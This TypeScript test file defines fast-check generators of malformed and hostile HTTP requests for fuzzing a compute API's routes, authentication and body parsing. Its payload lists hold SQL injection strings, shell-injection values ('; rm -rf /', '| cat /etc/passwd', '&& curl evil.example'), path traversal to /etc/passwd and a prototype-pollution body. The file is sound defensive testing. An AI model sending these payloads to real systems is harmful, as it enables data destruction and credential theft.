import fc from 'fast-check';
import { ROUTES, type ExpandedRoute } from '../../src/api/routes/index.js';

/*
 * Generators of hostile requests for fuzz.test.ts. Every part of a request is drawn from a mix of the valid (so that
 * requests get deep into the handlers), the almost valid and the malicious.
 */

export interface Identities {
  /** Header sets that authenticate: the fuzz user (bearer, key pair) and an admin. */
  good: Array<Array<[string, string]>>;
  apiKey: string;
  token: string;
  /** Ids of real instances: the fuzz user's and a victim's. */
  instanceIds: string[];
  /** Ids of real users, key pairs and tokens, for the account routes; well-formed ids of none when not given. */
  userIds?: string[];
  keyIds?: string[];
  tokenIds?: string[];
}

/** Well-formed ids that name nothing: the account routes answer 404 for them after every check before it. */
const NO_SUCH = ['00000000-0000-4000-8000-000000000000', 'ffffffff-ffff-4fff-bfff-ffffffffffff'];

/** A path segment standing where an account's id goes: real ones when known, well-formed missing ones, and hostile text. */
function accountIdArb(known: string[] | undefined): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...(known && known.length > 0 ? known : NO_SUCH)) },
    { weight: 2, arbitrary: fc.uuid() },
    { weight: 2, arbitrary: fc.constantFrom(...SQL, ...SHELL, ...TRAVERSAL).map((s) => encodeURIComponent(s)) },
    { weight: 1, arbitrary: fc.constantFrom('%00', 'a%00b', '%2e%2e', 'u'.repeat(90)) },
  );
}

/**
 * The routes the fuzz suite sends requests to: every route of the table but those that hold a request open until
 * something happens (the waits, up to 60 s, and the event stream, until the client leaves), which would only be
 * waited on here.
 */
const FUZZED_ROUTES = ROUTES.filter((route) => !route.fullPath.endsWith('/wait') && route.definition.success.contentType !== 'text/event-stream');

/** A route's path with each of its parameters (:id, :templateID, :userId...) drawn from fill. */
function routePathArb(route: ExpandedRoute, fill: (parameter: string) => fc.Arbitrary<string>): fc.Arbitrary<string> {
  const parts = route.fullPath.split(/(:\w+)/).filter((part) => part !== '');
  return fc.tuple(...parts.map((part) => (part.startsWith(':') ? fill(part.slice(1)) : fc.constant(part)))).map((filled) => filled.join(''));
}

/** What stands for each path parameter: instance ids for id, templates (or ids) for templateID, accounts' ids for theirs. */
function parameterArb(ids: Identities, id: fc.Arbitrary<string>): (parameter: string) => fc.Arbitrary<string> {
  const accounts: Record<string, string[] | undefined> = { userId: ids.userIds, keyId: ids.keyIds, tokenId: ids.tokenIds };
  return (parameter) => {
    if (parameter === 'templateID') return fc.oneof(fc.constantFrom('debian-12-micro', 'ubuntu-22-standard'), id);
    if (parameter in accounts) return accountIdArb(accounts[parameter]);
    return id;
  };
}

/** Every fuzzed route of the table, as [method, path] with its parameters filled. */
function tableRouteArb(ids: Identities, id: fc.Arbitrary<string>): fc.Arbitrary<[string, string]> {
  const fill = parameterArb(ids, id);
  return fc.oneof(...FUZZED_ROUTES.map((route) => routePathArb(route, fill).map((path): [string, string] => [route.method, path])));
}

export interface FuzzRequest {
  method: string;
  /** The request target exactly as sent: not normalised, may hold ../, %00 or raw bytes. */
  target: string;
  headers: Array<[string, string]>;
  body: Buffer | undefined;
}

const V1 = '/api/compute/v1';

/** Text a header or a path can carry as it is (visible ASCII and Latin-1): such requests reach the handlers. */
const printable = (maxLength: number) =>
  fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).filter((c) => c < 0x7f || c > 0x9f).map((c) => String.fromCharCode(c)), maxLength });

const SQL = ["' OR '1'='1", '"; DROP TABLE instances; --', "1; SELECT * FROM api_keys --", "') UNION SELECT secret_hash FROM api_keys --", '%27%20OR%201=1'];
const SHELL = ['$(reboot)', '`id`', '| cat /etc/passwd', '; rm -rf /', '&& curl evil.example', '${IFS}'];
const TRAVERSAL = ['..', '../..', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e', '....//....//', '..\\..\\windows', '/./.', '%2e'];
const WEIRD = ['%00', 'a%00b', '%ff%fe', '%', '%zz', '%C0%AE', '\u00e9t\u00e9', '\u202e\u0000', '\ud83d\ude00', ' ', '\t', '', '~', '*', '?', '#', '//'];

/** A path segment standing where an id goes. */
function idArb(ids: Identities): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...ids.instanceIds) },
    { weight: 1, arbitrary: fc.constantFrom('tw-000000-00000000', 'tw-ffffff-ffffffff', 'TW-000000-00000000') },
    { weight: 2, arbitrary: fc.constantFrom(...SQL, ...SHELL, ...TRAVERSAL, ...WEIRD) },
    { weight: 1, arbitrary: fc.integer({ min: 257, max: 5000 }).map((n) => 'a'.repeat(n)) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((s) => encodeURIComponent(s)) },
    { weight: 2, arbitrary: printable(20).map((s) => s.replace(/[?#/ ]/g, '')) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  );
}

function pathArb(ids: Identities): fc.Arbitrary<string> {
  const id = idArb(ids);
  const op = fc.constantFrom('start', 'stop', 'restart', 'reset', 'delete', 'START', 'resume', 'serialPortOutput', '');
  return fc.oneof(
    tableRouteArb(ids, id).map(([, path]) => path),
    fc.tuple(id, op).map(([i, o]) => `${V1}/instances/${i}/${o}`),
    fc.tuple(idArb(ids), fc.constantFrom('keys', 'tokens', 'setTier', 'setCustomer', '')).map(([u, what]) => `${V1}/admin/users/${u}/${what}`),
    fc.tuple(fc.constantFrom('keys', 'tokens'), idArb(ids)).map(([what, k]) => `${V1}/admin/${what}/${k}`),
    fc.tuple(id, op).map(([i, o]) => `${V1}/admin/instances/${i}/${o}`),
    fc.constantFrom('/', '*'),
    fc.tuple(fc.constantFrom(...TRAVERSAL), id).map(([t, i]) => `${V1}/instances/${t}/${i}`),
    fc.constantFrom(`${V1}/../../etc/passwd`, `${V1}/instances/../admin/instances`, `//api/compute/v1//instances`, `${V1}/instances/`, `${V1}/instances?`, `${V1}/%2e%2e/admin/instances`),
    fc.webPath().map((p) => `${V1}${p}`),
  );
}

function queryArb(): fc.Arbitrary<string> {
  const value = fc.oneof(
    fc.constantFrom('1', '0', '-1', '999999999999', 'abc', 'RUNNING', 'RUNNING%00', '%00', 'null', '[]', '', ...SQL, ...SHELL),
    fc.uuid(),
    fc.string({ unit: 'binary', maxLength: 30 }).map((s) => encodeURIComponent(s)),
  );
  const name = fc.constantFrom('page', 'pageSize', 'limit', 'userID', 'status', 'zone', 'templateID', 'requestId', 'start', 'port', 'tier', 'customerID', 'email', 'pageToken', '__proto__', 'constructor', 'a[b]', 'requestId[]');
  return fc.array(fc.tuple(name, value), { minLength: 1, maxLength: 4 }).map((pairs) => `?${pairs.map(([k, v]) => `${k}=${v}`).join('&')}`);
}

function authArb(ids: Identities): fc.Arbitrary<Array<[string, string]>> {
  const bad: Array<Array<[string, string]>> = [
    [],
    [['authorization', 'Bearer nope']],
    [['authorization', 'Bearer']],
    [['authorization', 'Bearer  ']],
    [['authorization', `Bearer ${ids.token} extra`]],
    [['authorization', `Basic ${Buffer.from('a:b').toString('base64')}`]],
    [['authorization', `bearer ${ids.token}x`]],
    [['authorization', `Bearer ${ids.token}`], ['authorization', `Bearer ${ids.token}`]],
    [['authorization', `Bearer ${ids.token}`], ['api-key', ids.apiKey], ['api-secret', 'x']],
    [['api-key', ids.apiKey]],
    [['api-secret', 'secret']],
    [['api-key', ids.apiKey], ['api-secret', 'wrong']],
    [['api-key', ids.apiKey], ['api-key', ids.apiKey], ['api-secret', 'x']],
    [['api-key', `${ids.apiKey}' OR '1'='1`], ['api-secret', "' OR '1'='1"]],
    [['api-key', 'k'.repeat(4000)], ['api-secret', 's'.repeat(4000)]],
    [['api-key', ''], ['api-secret', '']],
  ];
  const garbage = fc.string({ unit: 'binary', maxLength: 60 }).map((s): Array<[string, string]> => [['authorization', `Bearer ${s}`]]);
  return fc.oneof({ weight: 10, arbitrary: fc.constantFrom(...ids.good) }, { weight: 8, arbitrary: fc.constantFrom(...bad) }, { weight: 1, arbitrary: garbage });
}

function deep(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

function bodyArb(): fc.Arbitrary<Buffer | undefined> {
  const text = (arb: fc.Arbitrary<string>) => arb.map((s) => Buffer.from(s, 'utf8'));
  const scalar = fc.oneof(
    fc.constantFrom('debian-12-micro', 'ubuntu-22-standard', 'us-central1-a', 'europe-west1-b', '', ...SQL, ...SHELL, ...TRAVERSAL),
    fc.string({ unit: 'binary', maxLength: 80 }),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.string(), { maxLength: 3 }),
    fc.dictionary(fc.string(), fc.string(), { maxKeys: 3 }),
  );
  const createLike = fc
    .record({ template_id: scalar, templateID: scalar, templateId: scalar, zone: scalar, extra: fc.jsonValue({ maxDepth: 3 }) }, { requiredKeys: [] })
    .map((o) => JSON.stringify(o));
  const accountLike = fc
    .record({ email: fc.oneof(fc.emailAddress(), scalar), tier: scalar, admin: scalar, customerId: scalar, ttl: fc.oneof(fc.constantFrom('1h', '0', '3651d', '90s'), scalar) }, { requiredKeys: [] })
    .map((o) => JSON.stringify(o));
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(undefined) },
    { weight: 6, arbitrary: text(createLike) },
    { weight: 2, arbitrary: text(accountLike) },
    { weight: 2, arbitrary: text(fc.json({ maxDepth: 4 })) },
    { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 500, max: 30_000 }), fc.constantFrom('array', 'object') as fc.Arbitrary<'array' | 'object'>).map(([d, k]) => Buffer.from(deep(d, k))) },
    { weight: 1, arbitrary: fc.integer({ min: 60_000, max: 300_000 }).map((n) => Buffer.from(JSON.stringify({ template_id: 'x'.repeat(n) }))) },
    {
      weight: 2,
      arbitrary: text(
        fc.constantFrom('{', '{"template_id":', '[1,2', 'nul', '{"a":1}}', '\u0000', "{'a':1}", '{"a":NaN}', '\ufeff{"template_id":"debian-12-micro"}', '{"__proto__":{"isAdmin":true},"template_id":"debian-12-micro"}', '{"constructor":{"prototype":{"x":1}}}', '"just a string"', '12', 'true', 'null', '[]'),
      ),
    },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)) },
  );
}

function contentTypeArb(): fc.Arbitrary<string | undefined> {
  return fc.oneof(
    { weight: 6, arbitrary: fc.constant('application/json') },
    { weight: 3, arbitrary: fc.constantFrom(undefined, 'application/json; charset=utf-8', 'application/json; charset=utf-16', 'text/plain', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'application/xml', 'application/json, text/plain', '*/*', '') },
    { weight: 1, arbitrary: printable(30) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 10 }) },
  );
}

function extraHeadersArb(): fc.Arbitrary<Array<[string, string]>> {
  const idempotency = fc.oneof(
    fc.uuid(),
    printable(80),
    fc.string({ unit: 'binary', maxLength: 10 }),
    fc.constantFrom('', 'k'.repeat(65), 'a b', ...SQL),
  );
  const known = fc.constantFrom<[string, string]>(
    ['x-request-id', '../../etc'],
    ['x-request-id', 'a'.repeat(500)],
    ['transfer-encoding', 'chunked'],
    ['content-length', '-1'],
    ['expect', '100-continue'],
    ['origin', 'https://evil.example'],
    ['host', ''],
    ['accept', 'text/html'],
    ['x-forwarded-for', '1.2.3.4'],
    ['connection', 'upgrade'],
    ['upgrade', 'websocket'],
  );
  const header = fc.oneof(
    { weight: 3, arbitrary: idempotency.map((v): [string, string] => ['idempotency-key', v]) },
    { weight: 3, arbitrary: known },
    { weight: 2, arbitrary: fc.tuple(fc.stringMatching(/^[a-z][a-z0-9-]{0,19}$/), printable(40)) },
    { weight: 1, arbitrary: fc.tuple(fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 20 }), fc.string({ unit: 'binary', maxLength: 40 })).filter(() => true) },
  );
  return fc.array(header, { maxLength: 3 });
}

/** Anything at all: every part drawn from the whole hostile mix, often bytes Node's parser refuses outright. */
function hostileArb(ids: Identities): fc.Arbitrary<FuzzRequest> {
  return fc
    .record({
      method: fc.oneof({ weight: 8, arbitrary: fc.constantFrom('GET', 'POST', 'DELETE') }, { weight: 1, arbitrary: fc.constantFrom('PUT', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'get', 'BREW', 'CONNECT') }),
      path: pathArb(ids),
      query: fc.option(queryArb(), { freq: 4 }),
      auth: authArb(ids),
      contentType: contentTypeArb(),
      extra: extraHeadersArb(),
      body: bodyArb(),
      // Mostly with a Host header, as every HTTP/1.1 client sends; sometimes without, which must be refused cleanly.
      host: fc.oneof({ weight: 19, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
    })
    .map(({ method, path, query, auth, contentType, extra, body, host }) => {
      const headers: Array<[string, string]> = [...(host ? [['host', '127.0.0.1'] as [string, string]] : []), ...auth, ...extra];
      if (contentType !== undefined) headers.push(['content-type', contentType]);
      return { method, target: `${path}${query ?? ''}`, headers, body };
    });
}

/**
 * What a client with a bug (or a probing user) sends: well-formed HTTP to the real routes, the caller's own and
 * others' ids, mostly good credentials, JSON bodies of every shape. These get past the parser and authentication
 * into validation, the handlers and the store, and some of them are accepted.
 */
function plausibleArb(ids: Identities): fc.Arbitrary<FuzzRequest> {
  const id = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...ids.instanceIds) },
    { weight: 2, arbitrary: fc.constantFrom(...SQL, ...SHELL, ...TRAVERSAL).map((s) => encodeURIComponent(s)) },
    { weight: 1, arbitrary: fc.constantFrom('tw-000000-00000000', '%00', 'a%00b', '%2e%2e', 'tw-' + 'f'.repeat(90)) },
  );
  const route = tableRouteArb(ids, id);
  const key = fc.option(fc.oneof(fc.uuid(), fc.constantFrom('k1', 'k2', 'k3'), printable(70)), { freq: 2 });
  const body = fc.option(
    fc.oneof(
      fc.record({ template_id: fc.constantFrom('debian-12-micro', 'ubuntu-22-standard', 'busybox-micro', 'nope') }),
      fc.record({ template_id: fc.constantFrom('debian-12-micro'), zone: fc.constantFrom('europe-west1-b', 'us-central1-a', 'mars-1a', '') }),
      fc.record({ email: fc.emailAddress(), tier: fc.constantFrom('free', 'pro', 'fuzz', 'gold'), admin: fc.boolean(), customerId: fc.constantFrom('', 'acme', 'a b') }, { requiredKeys: ['email'] }),
      fc.record({ tier: fc.constantFrom('free', 'pro', 'fuzz', 'gold', '') }),
      fc.record({ customerId: fc.constantFrom('', 'acme', 'no spaces', 'x'.repeat(65)) }),
      fc.record({ ttl: fc.constantFrom('1h', '30m', '7d', '0', 'soon', '3651d', '') }),
      fc.jsonValue({ maxDepth: 4 }),
    ),
    { freq: 3 },
  );
  const auth = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...ids.good) }, { weight: 1, arbitrary: authArb(ids) });
  return fc.record({ route, query: fc.option(queryArb(), { freq: 5 }), auth, key, body }).map(({ route: [method, path], query, auth, key, body }) => {
    const headers: Array<[string, string]> = [['host', '127.0.0.1'], ...auth];
    if (key !== null) headers.push(['idempotency-key', key]);
    if (body !== null) headers.push(['content-type', 'application/json']);
    return { method, target: `${path}${query ?? ''}`, headers, body: body === null ? undefined : Buffer.from(JSON.stringify(body)) };
  });
}

export function requestArb(ids: Identities): fc.Arbitrary<FuzzRequest> {
  return fc.oneof({ weight: 3, arbitrary: plausibleArb(ids) }, { weight: 2, arbitrary: hostileArb(ids) });
}
